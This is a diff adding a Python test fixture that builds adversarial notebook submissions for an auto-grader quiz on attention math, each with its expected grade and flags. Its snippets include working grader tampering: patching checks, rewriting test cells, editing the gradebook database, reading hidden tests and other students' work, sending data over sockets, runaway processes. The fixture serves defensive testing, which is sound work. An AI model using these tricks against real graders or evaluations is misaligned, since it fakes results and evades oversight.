@@ -1,0 +1,354 @@
+"""Adversarial submissions to quiz 4 (q4_qkv_math, 9 points), each with the grade its honest part
+deserves, the status it must end with and the evidence it must be flagged with.
+
+Every submission is built by a generator from the honest notebook (the release with the solution
+code in its solution cells), so the corpus follows the quiz when the quiz changes. Points: softmax
+2, scaled_dot_product_attention 4, three questions 1 each.
+
+``ENTRIES`` lists them; :func:`build` writes one into a course's ``submitted/`` folder.
+The attacks receive ``{canary}`` (a file outside the course that must never appear),
+``{course}`` (the course directory the grader runs in) and ``{port}`` (a TCP listener of the
+test on 127.0.0.1 that must never be reached) through placeholders.
+"""
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+
+QUIZ = "q4_qkv_math"
+WRONG_SOFTMAX = '''def softmax(x, axis=-1):
+    e = np.exp(x - np.max(x))
+    return e / np.sum(e)  # the global-sum bug: not normalised along axis
+'''
+
+
+@dataclass
+class Entry:
+    name: str
+    attack: str  # what it tries, in a few words
+    make: Callable[[nbformat.NotebookNode], nbformat.NotebookNode | bytes]
+    score: float
+    status: str
+    flags: list[str] = field(default_factory=list)  # substrings expected among the flags
+    filename: str = f"{QUIZ}.ipynb"
+
+
+def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def _set(grade_id: str, source: str) -> Callable:
+    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+        _cell(nb, grade_id).source = source
+        return nb
+    return make
+
+
+def _append(grade_id: str, code: str) -> Callable:
+    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+        _cell(nb, grade_id).source += "\n" + code
+        return nb
+    return make
+
+
+def _chain(*makers: Callable) -> Callable:
+    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+        for m in makers:
+            nb = m(nb)
+        return nb
+    return make
+
+
+def _insert_after(grade_id: str, source: str, metadata: dict | None = None) -> Callable:
+    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+        index = nb.cells.index(_cell(nb, grade_id))
+        cell = nbformat.v4.new_code_cell(source)
+        if metadata:
+            cell.metadata.update(metadata)
+        nb.cells.insert(index + 1, cell)
+        return nb
+    return make
+
+
+def _delete(grade_id: str) -> Callable:
+    def make(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+        nb.cells.remove(_cell(nb, grade_id))
+        return nb
+    return make
+
+
+def _blank(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution"):
+            cell.source = cell.metadata["attnkit_release_source"]
+    return nb
+
+
+def _malformed(nb: nbformat.NotebookNode) -> bytes:
+    return nbformat.writes(nb).encode()[:700]  # cut mid-file: not JSON
+
+
+wrong_softmax = _set("softmax", WRONG_SOFTMAX)
+SDPA_DELEGATES = '''import attnkit.attention as A
+def scaled_dot_product_attention(query, key, value, mask=None):
+    return A.scaled_dot_product_attention(query, key, value, mask)
+'''
+SDPA_DEFAULT_ARG = '''import attnkit
+def scaled_dot_product_attention(query, key, value, mask=None, _impl=attnkit.scaled_dot_product_attention):
+    return _impl(query, key, value, mask)
+'''
+SDPA_TORCH_INTERNAL = '''import torch
+def scaled_dot_product_attention(query, key, value, mask=None):
+    q, k, v = (torch.from_numpy(np.asarray(t, dtype=float)) for t in (query, key, value))
+    m = None if mask is None else torch.from_numpy(np.asarray(mask, dtype=bool))
+    out = torch._C._nn.scaled_dot_product_attention(q, k, v, m)
+    w = torch.softmax(q @ k.transpose(-1, -2) / q.shape[-1] ** 0.5, dim=-1)
+    return out.numpy(), w.numpy()
+'''
+SOFTMAX_TORCH_ALIAS = '''from torch.nn import functional as Fn
+import torch
+_sm = Fn.softmax
+def softmax(x, axis=-1):
+    return _sm(torch.from_numpy(np.asarray(x, dtype=float)), dim=axis).numpy()
+'''
+SDPA_COPIED = '''from attnkit.attention import _check_qkv, dot_product_scores, check_mask, shape_of, bk, math, softmax as _softmax
+def scaled_dot_product_attention(query, key, value, mask=None, scale=None):
+    _check_qkv(query, key, value)
+    scores = dot_product_scores(query, key, scale)  # (..., L, S)
+    if mask is not None:
+        check_mask(mask, shape_of(scores))
+        scores = bk.where(bk.like(mask, scores), scores, -math.inf)  # the one place masks are filled
+    weights = _softmax(scores, axis=-1)  # (..., L, S)
+    output = bk.matmul(weights, bk.as_float(value))  # (..., L, S) @ (..., S, d_v) -> (..., L, d_v)
+    return output, weights
+'''
+SDPA_NO_PROFILER = '''import sys, attnkit
+def scaled_dot_product_attention(query, key, value, mask=None):
+    sys.setprofile(None)
+    return attnkit.scaled_dot_product_attention(query, key, value, mask)
+'''
+NOISY = '''
+import logging, sys, warnings
+logging.basicConfig()
+_log = logging.getLogger("learner")
+_softmax_ok = softmax
+def softmax(x, axis=-1):
+    print("computing softmax", file=sys.stderr)
+    warnings.warn("a learner's warning")
+    _log.warning("logging from a correct answer")
+    np.exp(np.array([1000.0]))  # a numpy overflow note
+    return _softmax_ok(x, axis)
+print("stderr at the top level", file=sys.stderr)
+'''
+NOISY_SDPA = '''
+import logging
+_sdpa_ok = scaled_dot_product_attention
+def scaled_dot_product_attention(query, key, value, mask=None):
+    logging.getLogger("learner").error("sdpa called with %s", query.shape)
+    return _sdpa_ok(query, key, value, mask)
+'''
+SLOW_SDPA = '''
+import time
+_sdpa_fast = scaled_dot_product_attention
+def scaled_dot_product_attention(query, key, value, mask=None):
+    time.sleep(0.3)  # slow but well within the time limit
+    return _sdpa_fast(query, key, value, mask)
+'''
+
+ENTRIES: list[Entry] = [
+    Entry("honest", "all correct", lambda nb: nb, 9, "graded"),
+    Entry("honest_noisy", "correct, but prints to stderr, warns, logs, overflows numpy", _chain(
+        _append("softmax", NOISY), _append("scaled_dot_product_attention", NOISY_SDPA)), 9, "graded"),
+    Entry("honest_slow", "correct and slow (0.3 s per call)", _append("scaled_dot_product_attention", SLOW_SDPA),
+          9, "graded"),
+    Entry("blank", "nothing written", _blank, 0, "graded"),
+    Entry("patch_checks", "replaces the check functions it imports", _chain(wrong_softmax, _append("softmax", '''
+try:
+    import attnkit.grading.checks as _checks
+    _checks.check_softmax = lambda *a, **k: None
+except Exception as exc:
+    print("could not patch the checks:", exc)
+''')), 7, "flagged", ["grading package"]),
+    Entry("fake_sys_modules", "a fake checks module in sys.modules", _chain(wrong_softmax, _append("softmax", '''
+import sys, types
+_fake = types.ModuleType("attnkit.grading.checks")
+_fake.check_softmax = _fake.check_scaled_dot_product_attention = lambda *a, **k: None
+_fake.check_number = _fake.check_choice = lambda *a, **k: None
+sys.modules["attnkit.grading.checks"] = _fake
+''')), 7, "flagged", ["sys.modules"]),
+    Entry("input_transformer", "rewrites every cell run after it (the test cells)", _chain(
+        wrong_softmax, _append("softmax", '''
+get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"] if "check_" in "".join(lines) else lines)
+''')), 7, "flagged", ["input transformers"]),
+    Entry("ast_transformer", "an AST transformer that empties test cells", _chain(wrong_softmax, _append("softmax", '''
+import ast as _ast
+class _Empty(_ast.NodeTransformer):
+    def visit_Module(self, node):
+        return _ast.Module(body=[], type_ignores=[]) if "check" in _ast.unparse(node) else node
+get_ipython().ast_transformers.append(_Empty())
+''')), 7, "flagged", ["AST transformers"]),
+    Entry("writes_gradebook", "writes its own row of the gradebook", _chain(_blank, _append("softmax", '''
+import sqlite3, os
+for path in ["{course}/gradebook.db", "../../../gradebook.db", "../gradebook.db", "gradebook.db"]:
+    try:
+        con = sqlite3.connect(path)
+        con.execute("UPDATE grade SET auto_score = 100")
+        con.commit()
+    except Exception as exc:
+        print(path, exc)
+''')), 0, "flagged", ["outside its folder"]),
+    Entry("reexported_builtin", "attention through a re-exported name", _set("scaled_dot_product_attention",
+                                                                              SDPA_DELEGATES), 5, "graded"),
+    Entry("default_arg_builtin", "attention bound as a default argument", _set("scaled_dot_product_attention",
+                                                                               SDPA_DEFAULT_ARG), 5, "graded"),
+    Entry("torch_internal", "torch._C._nn.scaled_dot_product_attention", _set("scaled_dot_product_attention",
+                                                                              SDPA_TORCH_INTERNAL), 5, "graded"),
+    Entry("softmax_alias", "torch's softmax under another name", _set("softmax", SOFTMAX_TORCH_ALIAS), 7, "graded"),
+    Entry("reads_hidden_tests", "reads solutions/ (the hidden tests)", _append("softmax", '''
+for path in ["{course}/solutions/q4_qkv_math/q4_qkv_math.ipynb", "../../../solutions/q4_qkv_math/q4_qkv_math.ipynb",
+             "/work/main/solutions/q4_qkv_math/q4_qkv_math.ipynb"]:
+    try:
+        print(open(path).read()[:100])
+    except Exception as exc:
+        print(type(exc).__name__)
+'''), 9, "flagged", ["outside its folder"]),
+    Entry("reads_other_submissions", "lists and reads other students' submissions", _append("softmax", '''
+import os
+for path in ["{course}/submitted", "../..", "/"]:
+    try:
+        print(path, os.listdir(path))
+    except Exception as exc:
+        print(type(exc).__name__)
+try:
+    print(open("{course}/submitted/honest/q4_qkv_math/q4_qkv_math.ipynb").read()[:50])
+except Exception as exc:
+    print(type(exc).__name__)
+'''), 9, "flagged", ["outside its folder"]),
+    Entry("writes_outside", "writes files into the course and elsewhere", _append("softmax", '''
+for path in ["{canary}", "{course}/PWNED.txt", "../../../PWNED.txt", "/work/PWNED.txt", "/usr/PWNED"]:
+    try:
+        open(path, "w").write("pwned")
+    except Exception as exc:
+        print(type(exc).__name__)
+'''), 9, "flagged", ["outside its folder"]),
+    Entry("network", "opens network connections", _append("softmax", '''
+import socket
+for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("localhost", {port})]:
+    try:
+        socket.create_connection((host, port), timeout=1).sendall(b"stolen answers")
+    except Exception as exc:
+        print(host, type(exc).__name__)
+'''), 9, "flagged", ["network"]),
+    Entry("hang_ignores_interrupts", "a cell that never ends and swallows interrupts", _append(
+        "scaled_dot_product_attention", '''
+import time
+while True:
+    try:
+        time.sleep(100)
+    except BaseException:
+        pass
+'''), 2, "timed out"),
+    Entry("hang_in_function", "a function that never returns", _set("scaled_dot_product_attention", '''
+def scaled_dot_product_attention(query, key, value, mask=None):
+    while True:
+        pass
+'''), 5, "timed out"),
+    Entry("exits_kernel", "ends the kernel (os._exit)", _append("answer_softmax_axis", "import os\nos._exit(0)"),
+          7, "crashed"),
+    Entry("kills_itself", "kills its own process (SIGKILL)", _append("answer_scale_divisor",
+                                                                     "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
+          8, "crashed"),
+    Entry("memory_hog", "allocates far more memory than allowed", _append("answer_scale_divisor", '''
+try:
+    hog = np.ones(1 << 37)
+except MemoryError:
+    raise
+'''), 9, "memory limit"),
+    Entry("leftover_processes", "starts processes that outlive the notebook", _append("softmax", '''
+import subprocess, os
+subprocess.Popen(["sleep", "300"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    import time
+    time.sleep(300)
+    os._exit(0)
+'''), 9, "flagged", ["started a process"]),
+    Entry("malformed", "not valid JSON", _malformed, 0, "malformed"),
+    Entry("renamed", "the right notebook under another name", lambda nb: nb, 9, "renamed",
+          filename="my_quiz_final.ipynb"),
+    Entry("duplicated_test_cell", "a second copy of a test cell", _insert_after(
+        "test_softmax", "pass", {"nbgrader": {"grade": True, "grade_id": "test_softmax", "locked": True, "points": 2.0,
+                                              "schema_version": 3, "solution": False, "task": False}}),
+          9, "test cells restored"),
+    Entry("invented_grade_cell", "a grade cell of its own worth 100 points", _insert_after(
+        "test_softmax", "pass", {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True, "points": 100.0,
+                                              "schema_version": 3, "solution": False, "task": False}}),
+          9, "test cells restored"),
+    Entry("deleted_test_cell", "deletes a test cell", _delete("test_scaled_dot_product_attention"), 9,
+          "test cells restored"),
+    Entry("edited_test_cell", "empties a test cell (and has a wrong softmax)", _chain(
+        wrong_softmax, _set("test_softmax", "pass")), 7, "test cells restored"),
+    Entry("copied_from_attnkit", "attnkit's own implementation pasted in", _set("scaled_dot_product_attention",
+                                                                                SDPA_COPIED), 9, "flagged",
+          ["copied from attnkit/attention.py:scaled_dot_product_attention"]),
+    Entry("patch_numpy", "makes numpy's comparisons always true", _chain(wrong_softmax, _append("softmax", '''
+np.allclose = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+''')), 7, "flagged", ["patches a library"]),
+    Entry("always_equal_answer", "an answer object equal to everything", _set("answer_softmax_axis", '''
+class Anything(str):
+    def __eq__(self, other):
+        return True
+    __hash__ = str.__hash__
+answer_softmax_axis = Anything("a")
+'''), 8, "graded"),
+    Entry("removes_profiler", "switches the grader's profiler off, then delegates", _set(
+        "scaled_dot_product_attention", SDPA_NO_PROFILER), 9, "flagged", ["profiler"]),
+]
+
+
+def honest_notebook(release: nbformat.NotebookNode, solution: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    """The release with the solution code in its solution cells (markers removed)."""
+    nb = copy.deepcopy(release)
+    code = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in solution.cells}
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution"):
+            cell.metadata["attnkit_release_source"] = cell.source
+            cell.source = "\n".join(line for line in code[meta["grade_id"]].splitlines()
+                                    if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line)
+    return nb
+
+
+def build(entry: Entry, honest: nbformat.NotebookNode, folder: Path, **values: str) -> Path:
+    """Write ``entry``'s submission into ``folder`` (``submitted/<name>/q4_qkv_math/``)."""
+    made = entry.make(copy.deepcopy(honest))
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / entry.filename
+    if isinstance(made, bytes):
+        path.write_bytes(made)
+        return path
+    for cell in made.cells:
+        cell.metadata.pop("attnkit_release_source", None)
+        if cell.cell_type == "code":
+            source = cell.source
+            for key, value in values.items():
+                source = source.replace("{" + key + "}", str(value))
+            cell.source = source
+    nbformat.write(made, path)
+    return path
+
+
+def expected_table() -> str:
+    return "\n".join(f"| {e.name} | {e.attack} | {e.score:g} | {e.status} | {', '.join(e.flags)} |"
+                     for e in ENTRIES)
+
+
+if __name__ == "__main__":
+    print(json.dumps([e.name for e in ENTRIES]))
